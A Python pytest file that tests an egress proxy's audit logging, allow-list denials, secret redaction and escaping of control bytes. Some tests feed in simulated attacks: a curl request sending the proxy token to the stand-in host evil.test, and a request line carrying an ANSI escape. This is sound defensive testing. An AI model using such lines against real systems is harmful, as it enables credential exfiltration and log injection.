"""Audit lines and -v decision lines (SPEC 4.8)."""

import re
import socket
import time

from conftest import (AUDIT_KEYS, OPENAI, TLS_OFF, assert_no_secrets,
    auth_header,
    connect_status, connect_tunnel, curl, read_response,
    recv_exact, recv_until_eof, wait_for)


def test_denial_is_audited_immediately_with_every_key(proxy):
	px = proxy("--allow-domain", "api.test")
	s, st, _, h, left = connect_tunnel(px, "evil.test:443")
	with s:
		assert st == 403
		# Written at once, while the client is still connected.
		recs = px.audit(1)
		assert len(recs) == 1, recs
	rec = recs[0]
	assert set(rec) == AUDIT_KEYS
	assert rec["mode"] == "connect"
	assert rec["decision"] == "deny"
	assert rec["host"] == "evil.test"
	assert rec["port"] == 443
	assert rec["method"] == "CONNECT"
	assert rec["status"] == 403
	assert "not in allow-list" in rec["reason"]
	assert rec["service"] is None
	assert rec["path"] is None


def test_allowed_tunnel_is_audited_on_close_with_byte_counts(proxy,
    tcp_echo):
	p = tcp_echo.port
	px = proxy("--allow-domain", "api.test:%d" % p,
	    "--resolve", "api.test:%d:127.0.0.1" % p)
	s, st, _, _, left = connect_tunnel(px, "api.test:%d" % p)
	with s:
		assert st == 200
		s.sendall(b"u" * 1000)
		got, left = recv_exact(s, 1000, left)
		time.sleep(0.3)
		assert px.audit() == [], "tunnel audited before it closed"
		s.shutdown(socket.SHUT_WR)
		got += recv_until_eof(s, left)
	assert got == b"u" * 1000 + b"BYE\n"
	recs = px.audit(1)
	assert len(recs) == 1, recs
	rec = recs[0]
	assert rec["mode"] == "connect" and rec["decision"] == "allow", rec
	assert rec["host"] == "api.test" and rec["port"] == p, rec
	assert rec["method"] == "CONNECT" and rec["status"] == 200, rec
	assert rec["bytes_up"] == 1000, rec
	assert rec["bytes_down"] == 1004, rec
	assert isinstance(rec["ms"], (int, float)) and rec["ms"] >= 300, rec
	assert rec["reason"] is None or isinstance(rec["reason"], str)


def test_forward_is_audited_with_method_path_status(proxy, http_upstream):
	p = http_upstream.port
	px = proxy("--allow-domain", "web.test:%d" % p,
	    "--resolve", "web.test:%d:127.0.0.1" % p)
	rc, out, err = curl("--proxy", px.url, "-X", "PUT", "-d", "xyz",
	    "http://web.test:%d/items/7" % p)
	assert rc == 0, err
	rec = px.wait_audit(mode="forward")[-1]
	assert rec["decision"] == "allow"
	assert rec["method"] == "PUT"
	assert rec["path"] == "/items/7"
	assert rec["status"] == 200
	assert rec["host"] == "web.test" and rec["port"] == p


def test_forward_query_values_are_redacted_in_audit(proxy, http_upstream):
	p = http_upstream.port
	px = proxy("--allow-domain", "web.test:%d" % p,
	    "--resolve", "web.test:%d:127.0.0.1" % p)
	rc, out, err = curl("--proxy", px.url,
	    "http://web.test:%d/q?api_key=s3cr3tvalue&x=1" % p)
	assert rc == 0, err
	rec = px.wait_audit(mode="forward")[-1]
	assert rec["path"].startswith("/q"), rec
	assert "s3cr3tvalue" not in px.audit_text()


def test_verbose_prints_one_deny_line(proxy):
	px = proxy("-v", "--allow-domain", "api.test")
	st, _, _, _ = connect_status(px, "evil.test:443")
	assert st == 403
	# SPEC's example: `DENY CONNECT evil.example:443 not in allow-list`; a
	# log prefix before it and the status in between are tolerated.  It
	# ends naming keyhole's policy and the flag that allows it (SPEC 4.11).
	pat = re.compile(r"^(keyhole: )?DENY CONNECT evil\.test:443 (403 )?"
	    r"not in allow-list \(keyhole policy; to allow it: --allow-domain "
	    r"evil\.test \(profile: network\.allow_domain\)\)$", re.M)
	ok = wait_for(lambda: pat.search(px.stderr()))
	assert ok, px.stderr()
	assert len(pat.findall(px.stderr())) == 1


def test_verbose_deny_line_escapes_control_bytes(proxy):
	px = proxy("-v", *OPENAI)
	s = socket.create_connection(("127.0.0.1", px.port), timeout=3)
	with s:
		s.sendall(b"GET http://api.openai.com/\x1b[31mx HTTP/1.1\r\n"
		    b"Host: api.openai.com\r\n" + auth_header(px.token) + b"\r\n")
		try:
			read_response(s)
		except AssertionError:
			pass
	time.sleep(0.3)
	assert "\x1b" not in px.stderr()
	assert "\x1b" not in px.audit_text()


def test_tokens_never_appear_in_audit_or_stderr(proxy, tcp_echo,
    http_upstream):
	p, w = tcp_echo.port, http_upstream.port
	px = proxy("-v", "-v", *OPENAI, *TLS_OFF, "--credential", "anthropic",
	    "--resolve", "api.anthropic.com:443:127.0.0.1",
	    "--allow-domain", "api.test:%d" % p,
	    "--resolve", "api.test:%d:127.0.0.1" % p,
	    "--allow-domain", "web.test:%d" % w,
	    "--resolve", "web.test:%d:127.0.0.1" % w)
	phantom = px.env["OPENAI_API_KEY"]
	# Allowed tunnel, denied CONNECTs, wrong token, a forward whose URL
	# carries the phantom token, a forward with the token as a header.
	s, st, _, _, left = connect_tunnel(px, "api.test:%d" % p)
	with s:
		assert st == 200
	assert connect_status(px, "evil.test:443")[0] == 403
	assert connect_status(px, "api.openai.com:443")[0] == 403
	assert connect_status(px, "api.test:%d" % p, token=phantom)[0] == 407
	rc, _, err = curl("--proxy", px.url, "-H",
	    "Authorization: Bearer " + phantom,
	    "http://web.test:%d/p?key=%s&token=%s" % (w, phantom, px.token))
	assert rc == 0, err
	rc, _, _ = curl("--proxy", px.url,
	    "http://evil.test/x?key=%s" % px.token)
	rc, _, _ = curl("--proxy-user", "keyhole:" + px.token, "--proxy",
	    "http://127.0.0.1:%d" % px.port, "http://api.openai.com/v1/x?k=" +
	    phantom)
	px.audit(6)
	px.stop()
	assert_no_secrets(px)


def test_every_decision_writes_exactly_one_line(proxy):
	px = proxy("--allow-domain", "api.test")
	for host in ("a.test", "b.test", "c.test"):
		assert connect_status(px, host + ":443")[0] == 403
	recs = px.audit(3)
	assert [r["host"] for r in recs] == ["a.test", "b.test", "c.test"]
	time.sleep(0.2)
	assert len(px.audit()) == 3
